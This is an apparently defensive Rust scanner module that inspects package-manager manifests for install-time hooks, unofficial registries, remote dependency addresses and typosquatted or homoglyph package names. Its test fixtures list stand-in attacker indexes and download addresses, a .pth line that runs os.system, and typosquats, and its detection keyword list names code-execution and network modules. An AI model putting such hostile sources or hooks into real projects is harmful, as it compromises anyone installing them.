//! Manifests of package managers.

use serde_json::Value;

use super::names::Registry;
use super::{judge_address, judge_name, rules, say};
use crate::code::{hosts, safe};
use crate::{Capability, Confidence, File, Package, Place, Seen, Severity, Use};

/// The largest manifest.
const LARGEST: usize = 1 << 20;

pub(super) fn look(package: &Package, file: &File, seen: &mut Seen) {
    if file.bytes.len() > LARGEST {
        return;
    }
    let name = file.path.rsplit('/').next().unwrap_or_default();
    let text = String::from_utf8_lossy(&file.bytes);
    let manifest = Manifest { path: &file.path, text: &text };
    let pinned = |lock: &[&str]| {
        package
            .files
            .iter()
            .any(|other| lock.contains(&other.path.rsplit('/').next().unwrap_or_default()))
    };
    match name {
        "package.json" => {
            manifest.package_json(
                seen,
                pinned(&[
                    "package-lock.json",
                    "pnpm-lock.yaml",
                    "yarn.lock",
                    "bun.lock",
                    "bun.lockb",
                    "npm-shrinkwrap.json",
                ]),
            );
        }
        "pyproject.toml" => manifest.pyproject(seen),
        "Pipfile" | "pip.conf" | "pip.ini" | ".npmrc" | ".yarnrc" | ".yarnrc.yml" | "uv.toml"
        | ".condarc" | "bunfig.toml" => {
            manifest.settings(seen);
        }
        "Gemfile" => manifest.gemfile(seen),
        "go.mod" => manifest.go_mod(seen),
        "Cargo.toml" => manifest.cargo(seen),
        "Brewfile" => manifest.brewfile(seen),
        "setup.py" | "build.rs" | "conftest.py" | "sitecustomize.py" | "usercustomize.py"
        | "extconf.rb" => {
            let when = match name {
                "conftest.py" => "each test run",
                "build.rs" => "each build",
                "sitecustomize.py" | "usercustomize.py" => "each start of Python",
                _ => "the install",
            };
            let severity = match name {
                "sitecustomize.py" | "usercustomize.py" => Severity::Medium,
                _ => Severity::Note,
            };
            let message = format!("`{name}` runs by itself at {when}.");
            say(
                seen,
                &rules::LIFECYCLE,
                (severity, Confidence::High),
                (&file.path, 0),
                name,
                message,
            );
        }
        _ if name.ends_with(".pth")
            && text
                .lines()
                .any(|line| line.starts_with("import ") || line.starts_with("import\t")) =>
        {
            let line = text.lines().position(|line| line.starts_with("import")).unwrap_or(0);
            let excerpt = text.lines().nth(line).unwrap_or_default();
            let line = u32::try_from(line + 1).unwrap_or(0);
            // `import coverage; coverage.process_startup()`: a package starts itself, by name.
            let plain = excerpt.len() < 90
                && ![
                    "exec",
                    "eval",
                    "open",
                    "urllib",
                    "base64",
                    "subprocess",
                    "os.",
                    "socket",
                    "__",
                    "sys.",
                ]
                .iter()
                .any(|word| excerpt.contains(word));
            let severity = if plain { Severity::Low } else { Severity::High };
            let message = "A path file runs code at each start of Python.".to_owned();
            say(
                seen,
                &rules::LIFECYCLE,
                (severity, Confidence::High),
                (&file.path, line),
                excerpt,
                message,
            );
        }
        _ if name.starts_with("requirements") && name.ends_with(".txt")
            || name == "constraints.txt" =>
        {
            manifest.requirements(seen)
        }
        _ => {}
    }
}

struct Manifest<'a> {
    path: &'a str,
    text: &'a str,
}

impl Manifest<'_> {
    fn line_of(&self, part: &str) -> u32 {
        let at = self.text.find(part).unwrap_or(0);
        let before = self.text.get(..at).unwrap_or_default();
        u32::try_from(before.matches('\n').count() + 1).unwrap_or(0)
    }

    fn name(&self, registry: Registry, name: &str, line: u32, seen: &mut Seen) {
        let place = Place { file: self.path.to_owned(), line, column: 0 };
        seen.capabilities.push(Capability { what: Use::Install(name.to_owned()), place });
        if let Some((rule, severity, message)) = judge_name(registry, name) {
            say(seen, rule, (severity, Confidence::Medium), (self.path, line), name, message);
        }
    }

    fn address(&self, name: &str, address: &str, line: u32, seen: &mut Seen) {
        let plain = address.trim_start_matches("git+").trim_start_matches("url:");
        let grade = match hosts::is_address(plain) {
            true => judge_address(plain),
            false => (Severity::Note, Confidence::Medium),
        };
        let message = format!("`{}` comes from an address: {}.", safe(name), safe(address));
        say(seen, &rules::REMOTE, grade, (self.path, line), address, message);
    }

    fn index(&self, address: &str, line: u32, seen: &mut Seen) {
        let official = [
            "pypi.org",
            "files.pythonhosted.org",
            "registry.npmjs.org",
            "registry.yarnpkg.com",
            "rubygems.org",
            "crates.io",
            "download.pytorch.org",
            "pytorch.org",
            "pypi.nvidia.com",
            "npm.pkg.github.com",
            "pkg.dev",
            "amazonaws.com",
            "azure.com",
            "jfrog.io",
            "proxy.golang.org",
            "npmmirror.com",
            "tuna.tsinghua.edu.cn",
            "mirrors.aliyun.com",
            "conda.anaconda.org",
            "repo.anaconda.com",
            "test.pypi.org",
        ];
        let Some(host) = hosts::host_of(address) else { return };
        if official.iter().any(|known| hosts::is_within(&host, known)) {
            return;
        }
        let (severity, confidence) = judge_address(address);
        // A registry decides about all names, not about one.
        let severity = if severity == Severity::Medium { Severity::High } else { severity };
        let message = format!("Packages are taken from {}.", safe(&host));
        say(seen, &rules::INDEX, (severity, confidence), (self.path, line), address, message);
    }

    fn package_json(&self, seen: &mut Seen, pinned: bool) {
        let Ok(value) = serde_json::from_str::<Value>(self.text.trim_start_matches('\u{feff}'))
        else {
            return;
        };
        if let Some(scripts) = value.get("scripts").and_then(Value::as_object) {
            for (name, command) in scripts {
                let lifecycle = matches!(
                    name.as_str(),
                    "preinstall"
                        | "install"
                        | "postinstall"
                        | "prepare"
                        | "preprepare"
                        | "postprepare"
                );
                let Some(command) = command.as_str().filter(|_| lifecycle) else { continue };
                let message = format!("`{name}` runs by itself at the install: {}.", safe(command));
                say(
                    seen,
                    &rules::LIFECYCLE,
                    (Severity::Note, Confidence::High),
                    (self.path, self.line_of(name)),
                    command,
                    message,
                );
            }
        }
        let mut open = false;
        for section in
            ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"]
        {
            let Some(dependencies) = value.get(section).and_then(Value::as_object) else {
                continue;
            };
            for (name, version) in dependencies.iter().take(2000) {
                let line = self.line_of(&format!("\"{name}\""));
                self.name(Registry::Npm, name, line, seen);
                let version = version.as_str().unwrap_or_default();
                let remote =
                    ["git", "http:", "https:", "ssh:", "github:", "gist:", "bitbucket:", "gitlab:"];
                if remote.iter().any(|start| version.starts_with(start)) {
                    self.address(name, version, line, seen);
                } else if let Some(real) = version.strip_prefix("npm:") {
                    let real = real
                        .rsplit_once('@')
                        .filter(|(n, _)| !n.is_empty())
                        .map_or(real, |(n, _)| n);
                    self.name(Registry::Npm, real, line, seen);
                }
                open |= matches!(version, "*" | "latest" | "x" | "");
            }
        }
        if open && !pinned {
            let message = "Dependencies of any version are taken.".to_owned();
            say(
                seen,
                &rules::UNPINNED,
                (Severity::Note, Confidence::High),
                (self.path, 0),
                "",
                message,
            );
        }
    }

    fn requirements(&self, seen: &mut Seen) {
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.split(" #").next().unwrap_or_default().trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let index = ["-i ", "--index-url", "--extra-index-url", "-f ", "--find-links"];
            if let Some(option) = index.iter().find(|option| line.starts_with(**option)) {
                let address =
                    line.get(option.len()..).unwrap_or_default().trim_start_matches(['=', ' ']);
                self.index(address, number, seen);
                continue;
            }
            let line = line.trim_start_matches("-e ").trim_start_matches("--editable ");
            if line.starts_with('-') {
                continue;
            }
            if line.contains("://") {
                let (name, address) = line
                    .split_once('@')
                    .filter(|(name, _)| !name.contains("://"))
                    .unwrap_or((line, line));
                self.address(name.trim(), address.trim(), number, seen);
                if name != address {
                    self.name(Registry::PyPi, requirement(name), number, seen);
                }
                continue;
            }
            self.name(Registry::PyPi, requirement(line), number, seen);
        }
    }

    fn pyproject(&self, seen: &mut Seen) {
        // Read by lines, since a broken manifest is still read by some tools.
        let mut section = String::new();
        let mut in_list = false;
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.trim();
            if line.starts_with('[') && !in_list {
                section = line.trim_matches(['[', ']']).to_owned();
                continue;
            }
            let sources = ["tool.uv.index", "tool.poetry.source", "tool.pdm.source", "tool.pixi"];
            if sources.iter().any(|source| section.starts_with(source)) && line.starts_with("url") {
                if let Some((_, value)) = line.split_once('=') {
                    self.index(value.trim().trim_matches(['"', '\'']), number, seen);
                }
                continue;
            }
            if section.starts_with("tool.uv")
                && (line.starts_with("index-url") || line.starts_with("extra-index-url"))
            {
                if let Some(address) = line.split(['"', '\'']).nth(1) {
                    self.index(address, number, seen);
                }
                continue;
            }
            let lists = (section == "project"
                || section == "build-system"
                || section.starts_with("project.optional")
                || section.starts_with("dependency-groups"))
                && (line.starts_with("dependencies")
                    || line.starts_with("requires =")
                    || section.contains("optional")
                    || section.starts_with("dependency-groups"));
            in_list |= lists && line.contains('[');
            if in_list {
                for word in line.split(['"', '\'']).skip(1).step_by(2) {
                    match word.split_once(" @ ") {
                        Some((name, address)) => {
                            self.name(Registry::PyPi, requirement(name), number, seen);
                            self.address(name, address.trim(), number, seen);
                        }
                        None => self.name(Registry::PyPi, requirement(word), number, seen),
                    }
                }
                in_list = !line.ends_with(']');
                continue;
            }
            if section.starts_with("tool.poetry")
                && section.ends_with("dependencies")
                && let Some((name, value)) = line.split_once('=')
            {
                let name = name.trim().trim_matches('"');
                if name != "python" && !name.is_empty() && !name.starts_with('#') {
                    self.name(Registry::PyPi, name, number, seen);
                }
                if let Some(address) = value.split('"').find(|part| hosts::is_address(part)) {
                    self.address(name, address, number, seen);
                }
            }
            if section == "build-system" && line.starts_with("backend-path") {
                let message = "The build runs code of the package itself.".to_owned();
                say(
                    seen,
                    &rules::LIFECYCLE,
                    (Severity::Low, Confidence::High),
                    (self.path, number),
                    line,
                    message,
                );
            }
        }
    }

    /// Settings that say where packages come from.
    fn settings(&self, seen: &mut Seen) {
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let lower = line.trim().to_ascii_lowercase();
            let key = lower.split(['=', ':', ' ']).next().unwrap_or_default();
            let tells = key.ends_with("registry")
                || key.ends_with("index-url")
                || key == "url"
                || key.ends_with("npmregistryserver")
                || key == "find-links"
                || key == "proxy";
            if !tells {
                continue;
            }
            if let Some(at) = lower.find("http") {
                let address =
                    lower.get(at..).unwrap_or_default().trim_matches(['"', '\'', ' ', ',']);
                self.index(address, number, seen);
            }
        }
    }

    fn gemfile(&self, seen: &mut Seen) {
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.trim();
            let value = line.split(['"', '\'']).nth(1).unwrap_or_default();
            if line.starts_with("source") {
                self.index(value, number, seen);
            } else if line.starts_with("gem ")
                && (line.contains("git:") || line.contains(":git"))
                && let Some(address) = line.split(['"', '\'']).find(|part| hosts::is_address(part))
            {
                self.address(value, address, number, seen);
            }
        }
    }

    fn go_mod(&self, seen: &mut Seen) {
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.trim();
            let replaced = line.split_once("=>").map(|(_, to)| to.trim());
            if let Some(to) = replaced.filter(|to| !to.starts_with(['.', '/'])) {
                let message = format!("A module is replaced by {}.", safe(to));
                say(
                    seen,
                    &rules::REMOTE,
                    (Severity::Medium, Confidence::Medium),
                    (self.path, number),
                    line,
                    message,
                );
            }
        }
    }

    fn cargo(&self, seen: &mut Seen) {
        let mut section = String::new();
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.trim();
            if line.starts_with('[') {
                section = line.trim_matches(['[', ']']).to_owned();
                continue;
            }
            let Some((name, value)) = line.split_once('=') else { continue };
            if !section.ends_with("dependencies") || line.starts_with('#') {
                continue;
            }
            let name = name.trim().trim_matches('"').split('.').next().unwrap_or_default();
            self.name(Registry::Crates, name, number, seen);
            if (value.contains("git =") || value.contains("git="))
                && let Some(address) = value.split('"').find(|part| hosts::is_address(part))
            {
                self.address(name, address, number, seen);
            }
        }
    }

    fn brewfile(&self, seen: &mut Seen) {
        for (line, number) in self.text.lines().zip(1..).take(5000) {
            let line = line.trim();
            let value = line.split(['"', '\'']).nth(1).unwrap_or_default();
            if line.starts_with("brew ") && !value.contains('/') {
                self.name(Registry::Brew, value, number, seen);
            } else if line.starts_with("tap ")
                && let Some(address) = line.split(['"', '\'']).find(|part| hosts::is_address(part))
            {
                self.address(value, address, number, seen);
            }
        }
    }
}

/// The name in `name[extra]>=1.0; marker`.
pub(super) fn requirement(text: &str) -> &str {
    text.trim().split(['[', '=', '<', '>', '~', '!', ';', ' ', '@', '(']).next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::FileKind;

    fn seen(path: &str, text: &str) -> Seen {
        let file = File {
            path: path.to_owned(),
            bytes: Arc::from(text.as_bytes()),
            kind: FileKind::Definition,
            executable: false,
        };
        super::super::look(&Package { files: vec![file] })
    }

    #[test]
    fn finds_what_manifests_bring() {
        for (path, text, rule, line) in [
            (
                "package.json",
                "{\n\"dependencies\": {\n\"expres-session\": \"1\"}}",
                "dependency-name-alike",
                3,
            ),
            (
                "package.json",
                "{\"dependencies\": {\"a-b\": \"http://45.1.2.3/x.tgz\"}}",
                "dependency-remote",
                1,
            ),
            (
                "requirements.txt",
                "numpy\n--extra-index-url https://pypi.evil.net/simple\n",
                "dependency-index",
                2,
            ),
            ("requirements.txt", "reqeusts==1\n", "dependency-name-alike", 1),
            ("requirements.txt", "x @ https://webhook.site/x.whl\n", "dependency-remote", 1),
            (
                "pyproject.toml",
                "[project]\ndependencies = [\n \"numpy\",\n \"panddas>=1\",\n]\n",
                "dependency-name-alike",
                4,
            ),
            (
                "pyproject.toml",
                "[[tool.uv.index]]\nurl = \"https://evil.net/simple\"\n",
                "dependency-index",
                2,
            ),
            (".npmrc", "registry=https://npm.evil.net/\n", "dependency-index", 1),
            ("a.pth", "import os; os.system('x')\n", "install-runs-code", 1),
            ("requirements.txt", "nump\u{443}\n", "dependency-homoglyph", 1),
        ] {
            let seen = seen(path, text);
            let found = seen
                .findings
                .iter()
                .any(|f| f.rule.id == rule && f.severity >= Severity::High && f.place.line == line);
            assert!(found, "{path}: {text}: {:?}", seen.findings);
        }
    }

    #[test]
    fn usual_manifests_pass() {
        for (path, text) in [
            (
                "package.json",
                "{\"scripts\":{\"postinstall\":\"node build.js\"},\"dependencies\":{\"react\":\"^18\",\"@acme/ui\":\"github:acme/ui\",\"zod\":\"*\"}}",
            ),
            (
                "requirements.txt",
                "numpy>=1\ntyping_extensions\ntorch --index-url x\n--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/a/b.git\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"x\"\ndependencies = [\"httpx\", \"mcp[cli]>=1\"]\n[build-system]\nrequires = [\"hatchling\"]\n",
            ),
            ("Gemfile", "source 'https://rubygems.org'\ngem 'rails'\n"),
            ("Cargo.toml", "[dependencies]\nserde = \"1\"\n"),
            ("a.pth", "../lib\n"),
            ("package.json", "not json"),
        ] {
            let seen = seen(path, text);
            assert!(
                seen.findings.iter().all(|f| f.severity < Severity::Medium),
                "{path}: {:?}",
                seen.findings
            );
        }
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_are_survived(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..400), at in 0usize..8) {
            let names = ["package.json", "pyproject.toml", "requirements.txt", "Gemfile", "Cargo.toml", "go.mod", ".npmrc", "Brewfile"];
            seen(names[at], &String::from_utf8_lossy(&bytes));
        }
    }
}
